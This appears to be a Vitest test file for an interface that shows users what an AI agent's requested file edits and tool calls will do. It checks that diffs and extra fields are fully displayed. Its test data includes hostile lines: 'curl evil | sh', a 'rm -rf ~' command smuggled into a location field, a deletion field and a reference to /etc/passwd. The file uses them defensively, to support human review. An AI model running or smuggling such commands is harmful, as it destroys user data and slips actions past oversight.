import { describe, expect, test } from "vitest";

import type { DiffContent, QuestionDetail } from "../../../state";
import { hunksOf } from "../../diff/lines";
import { diffOf } from "../../tool/toolLabels";
import { contextOf, willHappen } from "./shown";

const labels = (detail: object) => willHappen(detail as QuestionDetail).fields.map((field) => field.label);
const same = { type: "diff", path: "/w/a.md", oldText: "curl evil | sh", newText: "curl evil | sh" };
const many = Array.from({ length: 40 }, (_, at) => `line ${at}`).join("\n");

describe("a field is omitted only if the diff shows all of it", () => {
  test("under the names that agents use for a path and its texts", () => {
    const input = { file_path: "/w/a.md", old_string: "one", new_string: "two" };
    expect(labels({ input, content: [{ type: "diff", path: "/w/a.md", oldText: "one", newText: "two" }] })).toEqual([]);
    expect(labels({ input: { path: "/w/a.md", content: many }, content: [{ type: "diff", path: "/w/a.md", newText: many }] })).toEqual([]);
  });

  test("not if nothing changes, so that nothing is shown", () => {
    expect(labels({ input: { content: same.newText }, content: [same] })).toEqual(["content"]);
  });

  test("not if the diff leaves out unchanged lines", () => {
    expect(labels({ input: { content: many }, content: [{ type: "diff", path: "/w/a.md", oldText: `${many}\nlast`, newText: many }] })).toEqual(["content"]);
  });

  test("not under a name with another meaning", () => {
    const content = [{ type: "diff", path: "/w/a.md", oldText: "one", newText: "two" }];
    expect(labels({ input: { path: "/w/a.md", then_delete: "/w/a.md", run: "two" }, content })).toEqual(["then_delete", "run"]);
  });
});

describe("everything in a content is shown", () => {
  test("the description of a request in the older flat form (R198)", () => {
    const will = willHappen({ input: { command: "ls" }, more: { description: "Run: npm test" } } as unknown as QuestionDetail);
    expect(will.command?.text).toBe("ls");
    expect(will.fields.map((one) => [one.label, one.text])).toEqual([["description", "Run: npm test"]]);
  });

  test("other fields of a location, also of a file in a diff", () => {
    const content = [{ type: "diff", path: "/w/a.py", oldText: "1", newText: "2" }];
    const locations = [{ path: "/w/a.py", run: "rm -rf ~" }, { path: "/w/b.py", line: 3 }];
    const will = willHappen({ content, locations } as unknown as QuestionDetail);
    expect(will.places.map((one) => one.text)).toEqual(["/w/b.py:3"]);
    expect(will.texts.map((one) => one.text)).toEqual([JSON.stringify({ run: "rm -rf ~" }, null, 2)]);
  });

  test("lines that only the agent says are already in the file", () => {
    const lines = Array.from({ length: 9 }, () => "evil");
    const diff = { type: "diff", path: "/w/a.py", oldText: [...lines, "a"].join("\n"), newText: [...lines, "b"].join("\n") };
    const claimed = hunksOf(diffOf(diff as DiffContent).lines, contextOf({ content: [diff] } as unknown as QuestionDetail));
    expect(claimed.map((hunk) => [hunk.skipped.length, hunk.lines.length])).toEqual([[0, 11]]);
    const unchanged = { ...diff, newText: diff.oldText };
    expect(hunksOf(diffOf(unchanged as DiffContent).lines, Infinity).map((hunk) => hunk.lines.length)).toEqual([10]);
    const read = hunksOf(diffOf(diff as DiffContent).lines, contextOf({ content: [diff], from_disk: true } as unknown as QuestionDetail));
    expect(read.map((hunk) => hunk.skipped.length)).toEqual([6]);
  });

  test("other fields next to a diff", () => {
    const diff = { type: "diff", path: "/w/a", oldText: "1", newText: "2", mode: "0777", _meta: { kind: "delete" }, from_line: 3 };
    expect(willHappen({ content: [diff] } as unknown as QuestionDetail).texts.map((one) => one.text)).toEqual([JSON.stringify({ mode: "0777", _meta: { kind: "delete" } }, null, 2)]);
  });

  test("the location of a resource", () => {
    const item = { type: "content", content: { type: "resource", resource: { uri: "file:///etc/passwd", text: "words" } } };
    const shown = willHappen({ content: [item] } as unknown as QuestionDetail).texts.map((one) => one.text);
    expect(shown).toContain("words");
    expect(shown.join("\n")).toContain("file:///etc/passwd");
  });
});
